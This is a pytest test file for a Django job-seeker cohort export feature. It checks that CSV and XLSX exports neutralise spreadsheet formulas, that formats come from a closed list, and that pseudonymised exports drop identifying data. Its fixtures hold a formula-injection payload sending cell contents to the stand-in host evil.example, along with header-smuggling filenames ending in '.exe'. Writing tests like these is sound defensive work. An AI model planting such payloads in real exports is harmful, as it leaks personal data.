"""Cohort exports: no formula from a name, a closed list of formats, and the pseudonymised file."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from .factories import JobSeekerFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Voir")'


@pytest.fixture
def formula_person(territory, cohort, qpv, advisor):
    return JobSeekerFactory(
        territory=territory,
        cohort=cohort,
        qpv=qpv,
        first_name="@SUM(1+1)",
        last_name=FORMULA,
        commune="-2+3",
        referent_organisation=advisor.organisation,
        referent=advisor,
    )


def test_cohort_csv_neutralises_formulas(client, coordinator, formula_person):
    client.force_login(coordinator)
    text = client.get("/cohorte/export.csv").content.decode("utf-8-sig")
    row = text.splitlines()[1]
    assert ";\"'=HYPERLINK(" in row and ";'@SUM(1+1);" in row and ";'-2+3;" in row


def test_cohort_xlsx_writes_no_formula(client, coordinator, formula_person):
    client.force_login(coordinator)
    content = client.get("/cohorte/export.xlsx").content
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).active
    names = {cell.value: cell for cell in sheet[2]}
    assert names[FORMULA].data_type == "s" and names[FORMULA].quotePrefix


@pytest.mark.parametrize(
    "url",
    [
        "/cohorte/export.html",
        "/cohorte/export.pdf",
        '/cohorte/export.csv";filename="facture.exe',
        "/cohorte/export.csv%22;filename=%22facture.exe",
        "/cohorte/export.CSV",
    ],
)
def test_export_format_comes_from_a_closed_list(client, coordinator, url):
    client.force_login(coordinator)
    assert client.get(url).status_code == 404


def test_export_file_name_is_built_by_the_server(client, coordinator, formula_person):
    client.force_login(coordinator)
    disposition = client.get("/cohorte/export.xlsx", {"filename": "x.exe"})["Content-Disposition"]
    assert disposition.startswith('attachment; filename="cohorte-') and disposition.endswith('.xlsx"')
    assert disposition.count("filename") == 1


def test_rights_export_format_comes_from_a_closed_list(client, coordinator, formula_person):
    client.force_login(coordinator)
    base = f"/cohorte/personnes/{formula_person.pk}/droits/dossier"
    assert client.get(f"{base}.json").status_code == 200
    assert client.get(f"{base}.html").status_code == 404
    assert client.get(f'{base}.json";filename="x.exe').status_code == 404


def test_pseudonymised_export_has_no_id_no_day_no_health(client, coordinator, person):
    """The statistics file is called what it is (pseudonymised) and keeps nothing that points at the person."""
    person.commune = "Trélazé"
    person.save()
    client.force_login(coordinator)
    response = client.get("/cohorte/export.xlsx", {"pseudonymise": "1"})
    assert "cohorte-pseudonymisee-" in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    header, row = rows[0], rows[1]
    assert not {"Identifiant", "Nom", "Date d'entrée", "Fin du suivi", "Commune", "Âge à l'entrée"} & set(header)
    assert not [label for label in header if "RQTH" in label]
    values = dict(zip(header, row, strict=True))
    assert values["Mois d'entrée"] == f"{person.entry_date:%m/%Y}"
    assert values["Tranche d'âge à l'entrée"] in {"Moins de 26 ans", "De 26 à 49 ans", "50 ans et plus"}
    text = " ".join(str(value) for value in row)
    for leaked in (str(person.pk), "Lefèvre", "Trélazé", f"{person.entry_date:%d/%m/%Y}", "oui"):
        if leaked == "oui":  # RQTH is True for this person: no "oui" may come from it (RSA/parent are False)
            assert row.count("oui") == 0
        else:
            assert leaked not in text.split() and leaked not in row
    assert client.get("/cohorte/export.csv", {"anonyme": "1"}).content.decode("utf-8-sig").startswith("Cohorte;")


def test_pseudonymised_rows_are_not_in_name_order(client, coordinator, territory, cohort, qpv, advisor):
    from tests.cohorts.factories import QPVFactory

    other_qpv = QPVFactory(territory=territory, name="Belle-Beille", commune="Angers")
    for last_name, where in (("Aubert", qpv), ("Zidane", other_qpv)):
        JobSeekerFactory(
            territory=territory,
            cohort=cohort,
            qpv=where,
            last_name=last_name,
            referent_organisation=advisor.organisation,
        )
    client.force_login(coordinator)
    lines = client.get("/cohorte/export.csv", {"pseudonymise": "1"}).content.decode("utf-8-sig").splitlines()
    qpv_column = lines[0].split(";").index("QPV")
    assert [line.split(";")[qpv_column] for line in lines[1:]] == ["Belle-Beille", "Monplaisir"]
